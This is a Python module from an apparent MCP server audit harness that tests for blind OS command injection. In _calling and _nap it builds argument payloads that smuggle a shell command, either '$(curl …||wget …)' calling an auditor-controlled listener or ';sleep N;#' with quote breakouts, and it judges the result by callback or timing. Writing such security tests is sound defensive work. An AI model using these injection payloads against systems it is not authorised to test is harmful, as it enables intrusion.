"""Commands whose output nobody shows: the server's shell is asked to call a listener, or to take its time."""

from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Final

from mcp_audit_harness.declare import Unobservable, Verdicts, callable_tool, check, scenario
from mcp_audit_harness.model import Category, Exchange, Impact, Severity, Visit, failed, not_observed, passed
from mcp_audit_harness.probe import Canary, Probe

from .argument_kinds import Slot
from .injection import NO_TEXT, text_slots
from .occasions import newest_only
from .payloads import WORD, factors
from .tries import ask, ask_afresh, is_slow, succeeded

_NAP_S: Final = 1
_SERIES: Final = (2, 0, 3, 1)
"""Further naps, in seconds, where the first one showed."""
_SLACK_S: Final = 0.6
_GRACE_S: Final = 0.3


@dataclass(frozen=True, slots=True)
class Nap:
    """A call whose text asks a shell to sleep."""

    seconds: int
    exchange: Exchange


@dataclass(frozen=True, slots=True)
class Unseen:
    """One place: a harmless text, one that calls the listener from a shell, and ones that sleep."""

    subject: str
    label: str
    control: Exchange
    calling: Exchange | None
    """None where there is no listener that the target could reach."""
    visits: tuple[Visit, ...]
    product: str
    """Ends the address that a shell works out; the request does not hold it."""
    naps: tuple[Nap, ...]
    again: Exchange | None = None
    """The call of the listener once more, in a fresh session."""
    visits_again: tuple[Visit, ...] = ()
    product_again: str = ""

    @property
    def called(self) -> bool:
        """Whether both calls reached the listener by addresses that only a shell could have worked out."""
        return _came(self.visits, self.product) and _came(self.visits_again, self.product_again)

    @property
    def slept(self) -> bool:
        """Whether the answers took as much longer than the plain one as the naps, for each of them."""
        plain = self.control.elapsed_ms / 1000
        delays = [(nap.exchange.elapsed_ms / 1000 - plain, nap.seconds) for nap in self.naps]
        return len(delays) > len(_SERIES) and all(-0.1 <= delay - wanted <= _SLACK_S for delay, wanted in delays)


@dataclass(frozen=True, slots=True)
class AllUnseen:
    """Every place that was tried."""

    places: tuple[Unseen, ...]


def _came(visits: tuple[Visit, ...], product: str) -> bool:
    return bool(product) and any(product in visit.target for visit in visits)


@scenario(needs=(callable_tool, newest_only), impact=Impact.PROBING, timeout_s=60.0, thorough=True)
async def unseen(probe: Probe) -> AllUnseen:
    try:
        async with probe.canary() as canary:
            return AllUnseen(tuple([found async for found in _places(probe, canary)]))
    except Unobservable:
        return AllUnseen(tuple([found async for found in _places(probe, None)]))


async def _places(probe: Probe, canary: Canary | None) -> AsyncIterator[Unseen]:
    for slot in text_slots(probe):
        control = await ask(probe, slot, WORD)
        if not is_slow(control):
            yield await _place(probe, slot, control, canary)


async def _place(probe: Probe, slot: Slot, control: Exchange, canary: Canary | None) -> Unseen:
    naps = await _naps(probe, slot, control)
    if canary is None:
        return Unseen(slot.subject, slot.label, control, None, (), "", naps)
    value, url, product = _calling(probe, canary)
    calling = await ask(probe, slot, value)
    visits = canary.visits(url)
    if not _came(visits, product):
        return Unseen(slot.subject, slot.label, control, calling, visits, product, naps)
    value, url, second = _calling(probe, canary)
    again = await ask_afresh(probe, slot, value)
    return Unseen(slot.subject, slot.label, control, calling, visits, product, naps, again, canary.visits(url), second)


def _calling(probe: Probe, canary: Canary) -> tuple[str, str, str]:
    """Return a text that makes a shell call the listener, the address, and what the shell adds to that."""
    left, right = factors(probe.rng)
    url = canary.url()
    there = f"{url}/$(({left}*{right}))"
    call = f"$(curl -s -m 2 {there}||wget -q -T 2 -O- {there})"
    return f"{WORD}{call}'{call}'", url, str(left * right)


async def _naps(probe: Probe, slot: Slot, control: Exchange) -> tuple[Nap, ...]:
    first = Nap(_NAP_S, await ask(probe, slot, _nap(_NAP_S)))
    if first.exchange.elapsed_ms - control.elapsed_ms < 900 * _NAP_S:
        return (first,)
    rest = [Nap(seconds, await ask(probe, slot, _nap(seconds), timeout=15.0)) for seconds in _SERIES]
    return (first, *rest)


def _nap(seconds: int) -> str:
    sleep = f";sleep {seconds};#"
    return f"{WORD}{sleep}\"{sleep}'{sleep}"


@check(
    unseen,
    id="injection/runs-commands-unseen",
    title="Text of a caller is run by a shell, unseen",
    requirements=("tools/validate-tool-inputs",),
    severity=Severity.CRITICAL,
    category=Category.SECURITY,
    remediation="Start programs with a list of arguments and without a shell; never build a command line from text.",
    references=("https://cwe.mitre.org/data/definitions/78.html",),
)
def runs_commands_unseen(seen: AllUnseen) -> Verdicts:
    """A server need not show the output of a command to run it. The text asks for a call of the auditor's listener at
    an address that only a shell works out, and for pauses. Proof are two such calls, or five pauses of four lengths
    that the answers are late by.
    """
    failures = []
    for place in seen.places:
        if place.called and place.calling is not None and place.again is not None:
            message = f"A shell called the listener from the argument {place.label}."
            failures.append(failed(message, place.calling, place.again, place.control, subject=place.subject))
        elif place.slept:
            message = f"Answers are late by as long as a shell was told to sleep in the argument {place.label}."
            naps = (nap.exchange for nap in place.naps)
            failures.append(failed(message, *naps, place.control, subject=place.subject))
    working = [place for place in seen.places if succeeded(place.control)]
    answered = [nap.exchange for place in working for nap in place.naps if nap.exchange.answered]
    return failures or (passed(*answered[:10]) if answered else not_observed(NO_TEXT))
